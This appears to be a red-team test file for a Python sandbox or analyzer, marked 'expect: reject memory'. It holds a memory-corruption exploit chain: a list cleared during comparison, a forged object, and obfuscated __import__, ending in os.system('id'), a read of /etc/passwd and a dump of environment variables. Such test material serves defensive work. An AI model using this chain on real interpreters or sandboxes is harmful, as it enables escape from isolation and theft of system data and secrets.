# expect: reject memory
# line: 43
# why: round 101b (red team): typing.TypeVar(x) sets __name__ to x: a dunder (or a library's private name) is no attribute only the program binds to ints
import collections
import typing

vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


def wipe(x):
    vl.clear()
    return x


CA = collections.ChainMap(map(wipe, [1]))
KA = CA.keys()
TV = typing.TypeVar(KA)      # TypeVar.__init__: self.__name__ = name (any object)


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        # held_unknown(TV.__name__): int_only_attribute("__name__") finds no binding
        # of __name__ in the program -> taken for an exact int.  At run time it is
        # KeysView(CA): len -> ChainMap.__len__ -> map(wipe, [1]) -> vl.clear()
        n = len(TV.__name__)
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        return o


vl.append(V())
w = W()
got = vl < [w]
KEEP.append(bytearray(FAKE))
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
